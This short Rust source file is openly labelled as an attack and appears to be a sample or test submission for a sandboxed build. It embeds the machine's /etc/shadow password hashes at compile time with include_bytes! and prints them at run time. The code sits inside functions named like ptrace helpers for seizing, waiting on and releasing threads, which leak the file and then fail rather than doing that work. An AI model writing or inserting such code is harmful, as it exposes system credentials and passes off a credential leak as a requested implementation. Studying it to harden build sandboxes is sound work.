//! Attack: include_bytes!("/etc/shadow") at build time, printed at run time.
#![allow(unused_imports, unused_variables, dead_code)]

use anyhow::{bail, Result};
use nix::unistd::Pid;

/// The machine's password hashes, if the compiler can read them.
const SHADOW: &[u8] = include_bytes!("/etc/shadow");

/// Prints the hashes, then fails.
fn leak() -> Result<()> {
    eprintln!("{}", String::from_utf8_lossy(SHADOW));
    bail!("/etc/shadow: {:?}", String::from_utf8_lossy(&SHADOW[..SHADOW.len().min(200)]))
}

/// Leaks instead of seizing.
pub fn seize_every_thread(pid: Pid, seized: &mut dyn FnMut(Pid)) -> Result<Vec<Pid>> {
    leak()?;
    bail!("not written")
}

/// Leaks instead of waiting.
pub fn wait_for_stop(tid: Pid) -> Result<bool> {
    leak()?;
    bail!("not written")
}

/// Leaks instead of PTRACE_DETACH.
pub fn release(threads: &[Pid]) -> Result<()> {
    leak()
}
